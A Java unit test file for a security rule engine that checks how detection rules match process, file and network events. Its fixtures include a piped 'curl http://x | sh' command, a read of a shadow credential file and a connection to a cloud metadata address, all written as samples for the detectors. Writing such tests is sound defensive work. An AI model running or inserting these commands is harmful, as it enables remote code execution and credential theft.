package dev.vigil.rules.compile;

import static dev.vigil.rules.testing.Events.*;
import static dev.vigil.rules.testing.TestEngine.matches;
import static dev.vigil.rules.testing.TestEngine.problemsOf;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.event.Event;
import dev.vigil.rules.load.ProblemCode;
import org.junit.jupiter.api.Test;

/** One test per operator and per transformer, on hand-built events. */
class OperatorsTest {
    private final Event bash = exec(proc("bash").exe("/bin/bash").args("bash", "-c", "curl http://x | sh")
            .parent("nginx", "/usr/sbin/nginx").parent("runc", "/usr/bin/runc").user(1000));
    private final Event open = open(proc("cat"), "/etc/Shadow.bak", O_RDONLY);
    private final Event conn = connect(proc("curl"), "169.254.170.2", 80, "metadata.local");

    @Test void equals_and_double_equals() {
        assertThat(matches("proc.name = bash", bash)).isTrue();
        assertThat(matches("proc.name == bash", bash)).isTrue();
        assertThat(matches("proc.name = sh", bash)).isFalse();
        assertThat(matches("user.uid = 1000", bash)).isTrue();
    }

    @Test void not_equals_is_false_when_the_field_has_no_value() {
        assertThat(matches("proc.name != sh", bash)).isTrue();
        assertThat(matches("fd.name != /x", bash)).as("exec has no fd").isFalse();
        assertThat(matches("not fd.name = /x", bash)).as("not makes no-value true").isTrue();
        assertThat(matches("k8s.ns.name != kube-system", bash)).isFalse();
    }

    @Test void numeric_comparisons() {
        assertThat(matches("user.uid > 999", bash)).isTrue();
        assertThat(matches("user.uid >= 1000", bash)).isTrue();
        assertThat(matches("user.uid < 1000", bash)).isFalse();
        assertThat(matches("user.uid <= 1000", bash)).isTrue();
        assertThat(matches("fd.num >= 0", open)).isTrue();
        assertThat(matches("evt.rawres = 0x3", open)).isTrue();
    }

    @Test void in_with_lists_nested_lists_and_list_names() {
        String rules = "proc.name in (zsh, bash)";
        assertThat(matches(rules, bash)).isTrue();
        assertThat(matches("proc.name in (zsh)", bash)).isFalse();
        assertThat(matches("user.uid in (0, 1000)", bash)).isTrue();
        assertThat(matches("proc.name in ()", bash)).isFalse();
    }

    @Test void intersects_on_multi_value_fields() {
        assertThat(matches("proc.aname intersects (runc, containerd)", bash)).isTrue();
        assertThat(matches("proc.aname intersects (sshd)", bash)).isFalse();
    }

    @Test void pmatch_matches_path_prefixes_on_boundaries() {
        assertThat(matches("fd.name pmatch (/etc, /usr/bin)", open)).isTrue();
        assertThat(matches("fd.name pmatch (/et)", open)).isFalse();
        assertThat(matches("fd.name pmatch (/etc/Shadow.bak)", open)).isTrue();
        assertThat(matches("fd.directory pmatch (/)", open)).isTrue();
    }

    @Test void contains_icontains_startswith_endswith() {
        assertThat(matches("proc.cmdline contains \"| sh\"", bash)).isTrue();
        assertThat(matches("fd.name icontains shadow", open)).isTrue();
        assertThat(matches("fd.name contains shadow", open)).isFalse();
        assertThat(matches("fd.name startswith /etc/", open)).isTrue();
        assertThat(matches("fd.name endswith .bak", open)).isTrue();
    }

    @Test void bcontains_and_bstartswith_take_hex() {
        assertThat(matches("proc.cmdline bcontains 6375726c", bash)).as("'curl'").isTrue();
        assertThat(matches("proc.cmdline bstartswith 62617368", bash)).as("'bash'").isTrue();
        assertThat(problemsOf("proc.cmdline bcontains xyz")).extracting(p -> p.code()).containsExactly(ProblemCode.BAD_VALUE);
    }

    @Test void glob_and_iglob() {
        assertThat(matches("fd.name glob /etc/*.bak", open)).isTrue();
        assertThat(matches("fd.name glob /etc/?hadow*", open)).isTrue();
        assertThat(matches("fd.name glob /etc/[A-Z]*", open)).isTrue();
        assertThat(matches("fd.name glob /etc/[!A-Z]*", open)).isFalse();
        assertThat(matches("fd.name iglob /ETC/SHADOW*", open)).isTrue();
        assertThat(matches("fd.name glob /usr/*", open)).isFalse();
    }

    @Test void regex_matches_the_whole_value() {
        assertThat(matches("fd.name regex \"/etc/[sS]hadow\\.bak\"", open)).isTrue();
        assertThat(matches("fd.name regex \"shadow\"", open)).isFalse();
        assertThat(problemsOf("fd.name regex \"(\"")).extracting(p -> p.code()).containsExactly(ProblemCode.BAD_VALUE);
    }

    @Test void directory_and_filename_compare_as_regions_of_the_path() {
        assertThat(matches("fd.directory = /etc", open)).isTrue();
        assertThat(matches("fd.directory = /et", open)).isFalse();
        assertThat(matches("fd.directory != /usr", open)).isTrue();
        assertThat(matches("fd.directory in (/a, /b, /c, /d, /e, /f, /g, /h, /i, /etc)", open)).isTrue();
        assertThat(matches("fd.directory in (/a, /b, /c, /d, /e, /f, /g, /h, /i, /et)", open)).isFalse();
        assertThat(matches("fd.filename = Shadow.bak", open)).isTrue();
        assertThat(matches("fd.filename startswith Sha", open)).isTrue();
        assertThat(matches("fd.filename endswith .bak", open)).isTrue();
        assertThat(matches("fd.filename contains adow", open)).isTrue();
        assertThat(matches("fd.filename contains etc", open)).as("outside the region").isFalse();
        assertThat(matches("fd.directory contains Sha", open)).as("outside the region").isFalse();
        assertThat(matches("fd.filename glob Sha*", open)).as("falls back to the substring").isTrue();
        assertThat(matches("fd.directory = /", open(proc("cat"), "/x", O_RDONLY))).isTrue();
        assertThat(matches("fd.directory != /etc", bash)).as("no fd").isFalse();
    }

    @Test void exists() {
        assertThat(matches("proc.pname exists", bash)).isTrue();
        assertThat(matches("fd.name exists", bash)).isFalse();
        assertThat(matches("k8s.pod.name exists", bash)).isFalse();
        assertThat(matches("proc.aname[9] exists", bash)).isFalse();
    }

    @Test void ip_and_network_comparisons() {
        assertThat(matches("fd.sip = 169.254.170.2", conn)).isTrue();
        assertThat(matches("fd.sip = \"169.254.170.2\"", conn)).isTrue();
        assertThat(matches("fd.snet = 169.254.0.0/16", conn)).isTrue();
        assertThat(matches("fd.snet in (10.0.0.0/8, 172.16.0.0/12)", conn)).isFalse();
        assertThat(matches("fd.net != \"127.0.0.0/8\"", conn)).isTrue();
        assertThat(matches("fd.ip = 172.17.0.5", conn)).as("either end").isTrue();
        Event v6 = connect(proc("curl"), "fd00:ec2::254", 80);
        assertThat(matches("fd.sip = \"fd00:ec2::254\"", v6)).isTrue();
        assertThat(matches("fd.snet = \"fd00::/8\"", v6)).isTrue();
        assertThat(problemsOf("fd.sip = not-an-ip")).extracting(p -> p.code()).containsExactly(ProblemCode.BAD_VALUE);
    }

    @Test void booleans() {
        assertThat(matches("evt.is_open_read = true", open)).isTrue();
        assertThat(matches("evt.is_open_write = false", open)).isTrue();
        assertThat(problemsOf("evt.is_open_read = maybe")).extracting(p -> p.code()).containsExactly(ProblemCode.BAD_VALUE);
    }

    @Test void transformers() {
        assertThat(matches("tolower(fd.name) = /etc/shadow.bak", open)).isTrue();
        assertThat(matches("toupper(proc.name) = BASH", bash)).isTrue();
        assertThat(matches("basename(proc.exepath) = bash", bash)).isTrue();
        assertThat(matches("len(proc.name) = 4", bash)).isTrue();
        assertThat(matches("len(proc.aname) = 2", bash)).as("number of ancestors").isTrue();
        Event b64 = exec(proc("sh").args("sh", "Y3VybA=="));
        assertThat(matches("b64(proc.args) = curl", b64)).isTrue();
    }

    @Test void field_to_field_with_val() {
        Event self = exec(proc("nginx").parent("nginx", "/usr/sbin/nginx"));
        assertThat(matches("proc.name = val(proc.pname)", self)).isTrue();
        assertThat(matches("proc.name != val(proc.pname)", bash)).isTrue();
        assertThat(matches("proc.pid > val(proc.ppid)", bash)).isTrue();
        assertThat(matches("proc.exepath endswith val(proc.name)", bash)).isTrue();
    }

    @Test void wrong_operator_for_the_field_type_is_an_error() {
        assertThat(problemsOf("user.uid contains 0")).singleElement().satisfies(p -> {
            assertThat(p.code()).isEqualTo(ProblemCode.BAD_OPERATOR);
            assertThat(p.message()).contains("'contains'", "user.uid", "uint32");
        });
        assertThat(problemsOf("proc.name > 3")).extracting(p -> p.code()).containsExactly(ProblemCode.BAD_OPERATOR);
        assertThat(problemsOf("user.uid = root")).extracting(p -> p.code()).containsExactly(ProblemCode.BAD_VALUE);
    }

    @Test void evt_type_tests_and_their_negation() {
        assertThat(matches("evt.type = execve", bash)).isTrue();
        assertThat(matches("evt.type in (open, openat)", open)).isTrue();
        assertThat(matches("evt.type != execve", open)).isTrue();
        assertThat(matches("evt.type startswith exec", bash)).isTrue();
        assertThat(matches("evt.type = val(evt.type)", bash)).isTrue();
    }
}
